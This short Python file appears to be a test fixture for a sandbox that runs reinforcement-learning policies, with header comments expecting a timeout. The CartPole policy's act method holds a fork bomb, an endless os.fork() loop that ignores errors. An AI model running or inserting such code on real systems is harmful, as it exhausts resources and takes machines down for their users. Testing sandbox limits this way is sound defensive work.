# outcome: TIMEOUT act
# cpu_s_step: 0.1
import os


class CartPolePolicy:
    def act(self, obs):
        while True:
            try:
                os.fork()
            except OSError:
                pass
